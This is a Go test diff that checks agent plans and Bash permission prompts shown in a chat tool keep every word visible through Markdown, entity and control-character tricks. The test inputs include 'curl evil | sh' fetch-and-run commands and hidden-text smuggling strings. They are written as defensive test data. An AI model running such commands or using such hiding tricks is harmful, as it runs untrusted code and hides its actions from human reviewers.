@@ -1,6 +1,7 @@
 package gchat
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
@@ -164,5 +165,35 @@ func TestBackticksAreShown(t *testing.T) {
 	q.Shown = strings.Repeat(strings.Repeat("`<", 299)+"```\n", 30)
 	if text := QuestionTexts(q)[0]; len(text) > MaxText || strings.Count(text, fence) != 2 {
 		t.Errorf("%d bytes", len(text))
+	}
+}
+
+// No word of a plan is hidden by Markdown: not by characters that are written as numbers, titles, or what stands behind a language.
+func TestAPlanKeepsItsWords(t *testing.T) {
+	for _, plan := range []string{
+		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.", "Run &#27;]evil words&#7; it", "Run &#155;evil it",
+		"```sh and then evil\nls\n```", "~~~ evil words\n \n~~~", "[a](http://x \"evil words\")", "![a](http://x 'evil')",
+		"# The plan\n\n1. do *this*\n1. do `evil`\n\n```sh\nls\n```",
+	} {
+		q := &state.Question{Kind: state.AskedPlan, SessionName: "shop", Shown: plan}
+		text := strings.Join(QuestionTexts(q), "")
+		_, card := AppTexts(q, "id")
+		b, _ := json.Marshal(card)
+		if !strings.Contains(text, "evil") || !strings.Contains(string(b), "evil") && !strings.Contains(string(b), "stands above") {
+			t.Errorf("%q is shown as %q, %s", plan, text, b)
+		}
+	}
+	if text := QuestionTexts(&state.Question{Kind: state.AskedPlan, Shown: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0]; !strings.Contains(text, "2. that") {
+		t.Errorf("a plan is not read as Markdown: %q", text)
+	}
+}
+
+// What was decided is told with its end.
+func TestADecisionIsToldWithItsEnd(t *testing.T) {
+	q := &state.Question{Kind: state.AskedPermission, Tool: "Bash", Status: state.Resolved, Shown: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
+	q.Questions = []state.Prompt{{Question: "Bash"}}
+	q.Answers = map[string]string{"Bash": state.LabelAllow}
+	if text := NoteText(q, state.Owed{About: state.NoteClosed}); !strings.Contains(text, "evil") || !strings.Contains(text, "⋯") {
+		t.Errorf("%q", text)
 	}
 }
